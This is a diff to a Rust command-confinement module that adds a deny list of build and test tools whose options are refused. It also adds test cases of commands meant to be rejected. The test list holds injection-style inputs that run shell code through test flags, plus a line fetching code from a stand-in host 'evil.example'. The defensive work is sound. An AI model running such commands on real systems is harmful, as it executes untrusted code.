@@ -125,6 +125,14 @@ const RUNNING_OPTIONS: [(&str, &str); 14] = [
 ];
 /// Properties that only choose tests.
 const TEST_PROPERTIES: [&str; 6] = ["-Dtest=", "-Dit.test=", "-DskipTests", "-DskipITs", "-Dgroups=", "-DfailIfNo"];
+/// Tools of which any option is refused: one or another names code, and nobody has looked through them all.
+const OPTIONS_REFUSED: &str = " embedded-tests matlab-tests ghc provers protoc d-compilers asciidoctor static-sites graphql-codegen \
+    stylesheets eask emcc ocaml-compilers esy rustc swiftc pony ada-compilers pascal-compilers cobc vala \
+    kotlinc-native slipcover act kubectl-dry-run cdk sam zephyr schemathesis mutation-tests snakemake snakefmt \
+    chromatic breeze xmake boost-build dub racket cairo anchor move maturin cargo-mutants cargo-insta \
+    cargo-extras cross rescript rolldown rslib rstest react-router lab vite-plus flow tla dafny c3 hare nargo aiken \
+    tuist herb alembic flask-test prek code-metrics template-linters just-default scons-default plz \
+    type-coverage drizzle-kit prisma haproxy caddy templ ast-grep green lock-check uv-check ";
 /// Programs with a rule of the compilers' above: `-B` and the like mean something else to others.
 const COMPILERS: &str = " gcc g++ cc c++ gfortran clang clang++ clang-tidy rustc ";
 /// Programs to which `//name` is a part of the project.
@@ -191,6 +199,11 @@ impl Search<'_> {
     pub(super) fn confine_tool(&mut self, tool: &Tool<'_>, base: &[u8], arguments: &[&[u8]]) {
         if !self.is_strict {
             return;
+        }
+        if has_word(OPTIONS_REFUSED, tool.name.as_bytes())
+            && let Some(option) = arguments.iter().find(|argument| is_option(argument))
+        {
+            self.is_foreign(option);
         }
         if tool.flags & TOOL_INTERPRETER != 0 {
             let options = Words { arguments, value_options: &[], at: 0 }.next().unwrap_or(arguments.len());
@@ -409,6 +422,17 @@ mod tests {
         "bazel test --run_under=./x //...",
         "ctest -S x.cmake",
         "deno test https://evil.example/x.ts",
+        "swipl -g 'shell(x),run_tests' -t halt",
+        "octave --eval 'system(1), runtests'",
+        "emacs --batch --eval '(x)' -f ert-run-tests-batch",
+        "ghc -F -pgmF ./x A.hs",
+        "cdk synth --app ./x",
+        "kubectl apply --dry-run=client --kubeconfig x",
+        "./run-tests.sh",
+        "bash ci/lint.sh",
+        "ruby -Itest test/a_test.rb",
+        "./x test",
+        "rtk --x cargo test",
         "vitest run --poolOptions.forks.execArgv=--require=./x",
     ];
 
